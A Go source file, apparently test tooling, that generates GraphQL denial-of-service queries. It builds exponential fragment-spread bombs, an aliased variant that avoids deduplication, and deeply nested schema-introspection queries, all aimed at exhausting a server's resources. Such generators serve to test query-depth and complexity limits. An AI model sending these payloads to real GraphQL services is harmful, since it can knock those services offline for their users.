package attack

import (
	"fmt"
	"strings"
)

// bomb is fragments of which each spreads the next twice, n times over: 2^n leaves.
func bomb(n int, leaves string) string {
	var b strings.Builder
	b.WriteString("{ ...f0 }")
	for i := range n {
		fmt.Fprintf(&b, " fragment f%d on Query { ...f%d ...f%d }", i, i+1, i+1)
	}
	fmt.Fprintf(&b, " fragment f%d on Query { %s }", n, leaves)
	return b.String()
}

// aliasedBomb is a bomb of fields, each under two names, so that none of them are the same.
func aliasedBomb(n int) string {
	var b strings.Builder
	b.WriteString(`{ entity(by: {key: "a"}) { ...f0 } }`)
	for i := range n {
		fmt.Fprintf(&b, " fragment f%d on Entity { a%[1]d: parent { ...f%d } b%[1]d: parent { ...f%[2]d } }", i, i+1)
	}
	fmt.Fprintf(&b, " fragment f%d on Entity { key }", n)
	return b.String()
}

// nest puts a text between so many pairs of others.
func nest(n int, open, inner, closing string) string {
	return strings.Repeat(open, n) + inner + strings.Repeat(closing, n)
}

// schemaBomb goes round in the schema: fields of types of fields.
func schemaBomb(n int) string {
	return "{ __schema { types { " + nest(n, "fields { type { ", "name", " } }") + " } } }"
}
